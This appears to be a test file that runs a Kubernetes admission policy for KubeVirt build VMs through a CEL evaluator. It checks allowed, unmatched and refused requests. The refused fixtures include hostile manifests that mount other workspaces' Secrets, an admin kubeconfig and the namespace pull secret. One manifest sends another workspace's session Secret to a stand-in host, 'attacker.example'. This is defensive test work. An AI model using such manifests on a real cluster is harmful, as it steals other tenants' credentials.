import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { parseAllDocuments } from "yaml";
import { isCelError, run } from "@bufbuild/cel";
import { admissionPolicyFile, admissionPolicyNames } from "../../../app/admission-policy";
import { VM_LABEL_KEY } from "../../../templates/packer-builder";

// The shared build namespace's admission policy (issue 33 item 3), tested offline with a
// real CEL evaluator (@bufbuild/cel): the generated YAML is parsed and its own CEL
// expressions (match condition, variables in order, validations and their messages) are
// evaluated as the API server evaluates a ValidatingAdmissionPolicy, against hostile and
// ordinary KubeVirt objects. Each case is named; each refused case names what refuses it.

const ME = "coder-0f4a2c1e-7b3d-4e5f-9a8b-1c2d3e4f5a6b";
const OTHER = "coder-9d8c7b6a-5f4e-4d3c-8b2a-1f0e9d8c7b6a";
const NS = "packer-dev";
const sa = (name: string, namespace = NS) => `system:serviceaccount:${namespace}:${name}`;

type Obj = Record<string, any>;
interface Policy {
  matchCondition: string;
  variables: { name: string; expression: string }[];
  validations: { expression: string; messageExpression: string }[];
}

const [policyDoc, bindingDoc] = parseAllDocuments(admissionPolicyFile()).map((d) => d.toJS());
const POLICY: Policy = {
  matchCondition: policyDoc.spec.matchConditions[0].expression,
  variables: policyDoc.spec.variables,
  validations: policyDoc.spec.validations,
};

const KINDS: Record<string, { group: string; resource: string }> = {
  VirtualMachine: { group: "kubevirt.io", resource: "virtualmachines" },
  VirtualMachineInstance: { group: "kubevirt.io", resource: "virtualmachineinstances" },
  VirtualMachineInstanceReplicaSet: {
    group: "kubevirt.io",
    resource: "virtualmachineinstancereplicasets",
  },
  VirtualMachinePool: { group: "pool.kubevirt.io", resource: "virtualmachinepools" },
};

interface Request {
  readonly kind: keyof typeof KINDS;
  readonly operation: "CREATE" | "UPDATE" | "DELETE";
  readonly username: string;
  readonly object: Obj | null;
  readonly oldObject?: Obj | null;
}

type Verdict = { matched: false } | { matched: true; refusals: string[] };

function evaluate(expression: string, bindings: Obj): unknown {
  const result = run(expression, bindings as never);
  if (isCelError(result)) throw new Error(`CEL error in ${expression}: ${result.message}`);
  return result;
}

/** What the API server decides for `request` under the generated policy. */
function admit(request: Request): Verdict {
  const bindings: Obj = {
    request: {
      kind: { group: KINDS[request.kind].group, version: "v1", kind: request.kind },
      resource: {
        group: KINDS[request.kind].group,
        version: "v1",
        resource: KINDS[request.kind].resource,
      },
      operation: request.operation,
      namespace: NS,
      userInfo: { username: request.username, groups: ["system:serviceaccounts"] },
    },
    object: request.object,
    oldObject: request.oldObject ?? null,
  };
  if (evaluate(POLICY.matchCondition, bindings) !== true) return { matched: false };
  const variables: Obj = {};
  for (const v of POLICY.variables) {
    variables[v.name] = evaluate(v.expression, { ...bindings, variables });
  }
  const scope = { ...bindings, variables };
  const refusals = POLICY.validations
    .filter((v) => evaluate(v.expression, scope) !== true)
    .map((v) => String(evaluate(v.messageExpression, scope)));
  return { matched: true, refusals };
}

// --- Objects ------------------------------------------------------------------------------
const labels = (owner: string | null) => (owner === null ? {} : { [VM_LABEL_KEY]: owner });
const vmi = (volumes: Obj[] = [], extra: Obj = {}): Obj => ({
  domain: { devices: { disks: volumes.map((v) => ({ name: v.name, disk: { bus: "virtio" } })) } },
  volumes,
  ...extra,
});
const vm = (spec: Obj, owner: string | null = ME, vmExtra: Obj = {}): Obj => ({
  apiVersion: "kubevirt.io/v1",
  kind: "VirtualMachine",
  metadata: { name: "packer-1a2b3c", namespace: NS, labels: labels(owner) },
  spec: {
    runStrategy: "Always",
    template: { metadata: { labels: labels(owner) }, spec },
    ...vmExtra,
  },
});
const ordinaryVolumes = [
  { name: "rootdisk", persistentVolumeClaim: { claimName: "packer-1a2b3c-rootdisk" } },
  { name: "cloudinit", cloudInitNoCloud: { userData: "#cloud-config\npassword: packer\n" } },
];
const create = (kind: Request["kind"], object: Obj, username = sa(ME)): Request => ({
  kind,
  operation: "CREATE",
  username,
  object,
});

const ALLOWED: [string, Request][] = [
  [
    "an ordinary build VM: own label, PVC disk, inline cloud-init",
    create("VirtualMachine", vm(vmi(ordinaryVolumes))),
  ],
  [
    "a VM whose cloud-init and SSH key come from Secrets named after the identity",
    create(
      "VirtualMachine",
      vm(
        vmi(
          [
            ...ordinaryVolumes.slice(0, 1),
            {
              name: "cloudinit",
              cloudInitNoCloud: {
                secretRef: { name: `${ME}-cloudinit` },
                networkDataSecretRef: { name: ME },
              },
            },
            { name: "extra", secret: { secretName: `${ME}-answers` } },
          ],
          {
            accessCredentials: [
              {
                sshPublicKey: {
                  source: { secret: { secretName: `${ME}-ssh` } },
                  propagationMethod: { noCloud: {} },
                },
              },
            ],
          },
        ),
      ),
    ),
  ],
  [
    "a VM importing its disk over http with its own credentials Secret",
    create(
      "VirtualMachine",
      vm(vmi(ordinaryVolumes), ME, {
        dataVolumeTemplates: [
          {
            metadata: { name: "iso" },
            spec: {
              source: { http: { url: "https://example.com/a.iso", secretRef: `${ME}-http` } },
            },
          },
        ],
      }),
    ),
  ],
  [
    "a VMI with a container disk and no pull secret",
    create("VirtualMachineInstance", {
      metadata: { labels: labels(ME) },
      spec: vmi([{ name: "cd", containerDisk: { image: "quay.io/x/y:1" } }]),
    }),
  ],
  [
    "a pool of own VMs",
    create("VirtualMachinePool", {
      metadata: { labels: labels(ME) },
      spec: {
        replicas: 1,
        virtualMachineTemplate: {
          metadata: { labels: labels(ME) },
          spec: { template: { spec: vmi(ordinaryVolumes) } },
        },
      },
    }),
  ],
  [
    "a replica set of own VMIs",
    create("VirtualMachineInstanceReplicaSet", {
      metadata: { labels: labels(ME) },
      spec: {
        replicas: 1,
        template: { metadata: { labels: labels(ME) }, spec: vmi(ordinaryVolumes) },
      },
    }),
  ],
  [
    "an update of its own VM",
    {
      kind: "VirtualMachine",
      operation: "UPDATE",
      username: sa(ME),
      object: vm(vmi(ordinaryVolumes)),
      oldObject: vm(vmi(ordinaryVolumes)),
    },
  ],
  [
    "a delete of its own VM",
    {
      kind: "VirtualMachine",
      operation: "DELETE",
      username: sa(ME),
      object: null,
      oldObject: vm(vmi(ordinaryVolumes)),
    },
  ],
];

const NOT_MATCHED: [string, Request][] = [
  [
    "KubeVirt's controller creating a VMI (it is not a workspace identity)",
    create(
      "VirtualMachineInstance",
      { spec: vmi([{ name: "sa", serviceAccount: { serviceAccountName: OTHER } }]) },
      sa("kubevirt-controller", "harvester-system"),
    ),
  ],
  [
    "an administrator",
    create(
      "VirtualMachine",
      vm(vmi([{ name: "s", secret: { secretName: "anything" } }]), null),
      "admin",
    ),
  ],
  [
    "another service account of the namespace that is not a workspace identity",
    create("VirtualMachine", vm(vmi([]), null), sa("image-uploader")),
  ],
];

const SECRET_REFUSAL = "may only name Secrets called";
const REFUSED: [string, Request, string][] = [
  [
    "a serviceAccount volume naming another workspace's account",
    create(
      "VirtualMachine",
      vm(vmi([...ordinaryVolumes, { name: "sa", serviceAccount: { serviceAccountName: OTHER } }])),
    ),
    "serviceAccount volume",
  ],
  [
    "a serviceAccount volume naming its own account",
    create("VirtualMachine", vm(vmi([{ name: "sa", serviceAccount: { serviceAccountName: ME } }]))),
    "serviceAccount volume",
  ],
  [
    "a secret volume of another workspace's session Secret",
    create("VirtualMachine", vm(vmi([{ name: "s", secret: { secretName: `${OTHER}-session` } }]))),
    SECRET_REFUSAL,
  ],
  [
    "a secret volume whose name only starts like the identity's (no dash)",
    create("VirtualMachine", vm(vmi([{ name: "s", secret: { secretName: `${ME}x` } }]))),
    SECRET_REFUSAL,
  ],
  [
    "a secret volume of an operator's Secret",
    create(
      "VirtualMachine",
      vm(vmi([{ name: "s", secret: { secretName: "harvester-admin-kubeconfig" } }])),
    ),
    SECRET_REFUSAL,
  ],
  [
    "cloudInitNoCloud.secretRef naming another's Secret",
    create(
      "VirtualMachine",
      vm(vmi([{ name: "c", cloudInitNoCloud: { secretRef: { name: `${OTHER}-cloudinit` } } }])),
    ),
    SECRET_REFUSAL,
  ],
  [
    "cloudInitNoCloud.networkDataSecretRef naming another's Secret",
    create(
      "VirtualMachine",
      vm(
        vmi([
          {
            name: "c",
            cloudInitNoCloud: { userData: "x", networkDataSecretRef: { name: "shared-network" } },
          },
        ]),
      ),
    ),
    SECRET_REFUSAL,
  ],
  [
    "cloudInitConfigDrive.secretRef naming another's Secret",
    create(
      "VirtualMachine",
      vm(vmi([{ name: "c", cloudInitConfigDrive: { secretRef: { name: OTHER } } }])),
    ),
    SECRET_REFUSAL,
  ],
  [
    "a cloud-init vendorDataSecretRef naming another's Secret (a proposed KubeVirt field)",
    create(
      "VirtualMachine",
      vm(
        vmi([
          { name: "c", cloudInitNoCloud: { userData: "x", vendorDataSecretRef: { name: OTHER } } },
        ]),
      ),
    ),
    SECRET_REFUSAL,
  ],
  [
    "a sysprep Secret of someone else",
    create(
      "VirtualMachine",
      vm(vmi([{ name: "w", sysprep: { secret: { name: "windows-answers" } } }])),
    ),
    SECRET_REFUSAL,
  ],
  [
    "a container disk pulled with the namespace's pull secret",
    create("VirtualMachineInstance", {
      metadata: { labels: labels(ME) },
      spec: vmi([
        { name: "cd", containerDisk: { image: "r/x:1", imagePullSecret: "registry-credentials" } },
      ]),
    }),
    SECRET_REFUSAL,
  ],
  [
    "accessCredentials.sshPublicKey from another's Secret",
    create(
      "VirtualMachine",
      vm(
        vmi(ordinaryVolumes, {
          accessCredentials: [
            { sshPublicKey: { source: { secret: { secretName: `${OTHER}-ssh` } } } },
          ],
        }),
      ),
    ),
    "accessCredentials may only name Secrets",
  ],
  [
    "accessCredentials.userPassword from another's Secret",
    create(
      "VirtualMachine",
      vm(
        vmi(ordinaryVolumes, {
          accessCredentials: [
            { userPassword: { source: { secret: { secretName: "root-passwords" } } } },
          ],
        }),
      ),
    ),
    "accessCredentials may only name Secrets",
  ],
  [
    "a DataVolume template importing with another's credentials (sent to any URL)",
    create(
      "VirtualMachine",
      vm(vmi(ordinaryVolumes), ME, {
        dataVolumeTemplates: [
          {
            spec: {
              source: { http: { url: "https://attacker.example/", secretRef: `${OTHER}-session` } },
            },
          },
        ],
      }),
    ),
    "DataVolume template",
  ],
  [
    "a pool whose VM template mounts another's Secret",
    create("VirtualMachinePool", {
      metadata: { labels: labels(ME) },
      spec: {
        virtualMachineTemplate: {
          metadata: { labels: labels(ME) },
          spec: {
            template: { spec: vmi([{ name: "s", secret: { secretName: `${OTHER}-session` } }]) },
          },
        },
      },
    }),
    SECRET_REFUSAL,
  ],
  [
    "a replica set with a serviceAccount volume",
    create("VirtualMachineInstanceReplicaSet", {
      metadata: { labels: labels(ME) },
      spec: {
        template: { spec: vmi([{ name: "sa", serviceAccount: { serviceAccountName: OTHER } }]) },
      },
    }),
    "serviceAccount volume",
  ],
  [
    "a VM without the workspace label",
    create("VirtualMachine", vm(vmi(ordinaryVolumes), null)),
    "label it app.coder.io/workspace",
  ],
  [
    "a VM labeled as another workspace's",
    create("VirtualMachine", vm(vmi(ordinaryVolumes), OTHER)),
    "label it app.coder.io/workspace",
  ],
  [
    "relabeling its own VM as another workspace's",
    {
      kind: "VirtualMachine",
      operation: "UPDATE",
      username: sa(ME),
      object: vm(vmi(ordinaryVolumes), OTHER),
      oldObject: vm(vmi(ordinaryVolumes)),
    },
    "label it app.coder.io/workspace",
  ],
  [
    "an update of another workspace's VM",
    {
      kind: "VirtualMachine",
      operation: "UPDATE",
      username: sa(ME),
      object: vm(vmi(ordinaryVolumes)),
      oldObject: vm(vmi(ordinaryVolumes), OTHER),
    },
    "may update or delete only its own",
  ],
  [
    "a delete of another workspace's VM",
    {
      kind: "VirtualMachine",
      operation: "DELETE",
      username: sa(ME),
      object: null,
      oldObject: vm(vmi(ordinaryVolumes), OTHER),
    },
    "may update or delete only its own",
  ],
  [
    "a delete of an unlabeled VM",
    {
      kind: "VirtualMachine",
      operation: "DELETE",
      username: sa(ME),
      object: null,
      oldObject: vm(vmi(ordinaryVolumes), null),
    },
    "may update or delete only its own",
  ],
  [
    "a delete of another workspace's pool",
    {
      kind: "VirtualMachinePool",
      operation: "DELETE",
      username: sa(ME),
      object: null,
      oldObject: { metadata: { labels: labels(OTHER) }, spec: {} },
    },
    "may update or delete only its own",
  ],
];

describe("the shared build namespace's admission policy, evaluated with @bufbuild/cel", () => {
  it.each(ALLOWED)("allows %s", (_name, request) => {
    expect(admit(request)).toEqual({ matched: true, refusals: [] });
  });

  it.each(NOT_MATCHED)("does not constrain %s", (_name, request) => {
    expect(admit(request)).toEqual({ matched: false });
  });

  it.each(REFUSED)("refuses %s", (_name, request, because) => {
    const verdict = admit(request);
    expect(verdict.matched).toBe(true);
    const refusals = verdict.matched ? verdict.refusals : [];
    expect(refusals.length).toBeGreaterThan(0);
    expect(refusals.join("\n")).toContain(because);
  });

  it("names the requester in its messages", () => {
    const verdict = admit(REFUSED[2][1]);
    expect(verdict.matched && verdict.refusals[0]).toContain(sa(ME));
  });

  it("binds the policy to the build namespace only, denying on failure", () => {
    expect(policyDoc.spec.failurePolicy).toBe("Fail");
    expect(bindingDoc.spec).toEqual({
      policyName: policyDoc.metadata.name,
      validationActions: ["Deny"],
      matchResources: { namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": NS } } },
    });
    const rules = policyDoc.spec.matchConstraints.resourceRules;
    expect(rules.flatMap((r: Obj) => r.resources).sort()).toEqual(
      Object.values(KINDS)
        .map((k) => k.resource)
        .sort(),
    );
    for (const rule of rules) expect(rule.operations).toEqual(["CREATE", "UPDATE", "DELETE"]);
  });

  it("is generated from the operator's identity namespace", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "policy-config-"));
    try {
      const file = path.join(dir, "deploy.jsonc");
      fs.writeFileSync(
        file,
        '{ "templates": { "packer-builder": { "settings": { "identityNamespace": "builds" } } } }',
      );
      expect(admissionPolicyNames(file)).toEqual({
        namespace: "builds",
        identityPrefix: "coder-",
        labelKey: VM_LABEL_KEY,
      });
      const [policy, binding] = parseAllDocuments(admissionPolicyFile(file)).map((d) => d.toJS());
      expect(policy.spec.matchConditions[0].expression).toBe(
        "request.userInfo.username.startsWith('system:serviceaccount:builds:coder-')",
      );
      expect(binding.spec.matchResources.namespaceSelector.matchLabels).toEqual({
        "kubernetes.io/metadata.name": "builds",
      });
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
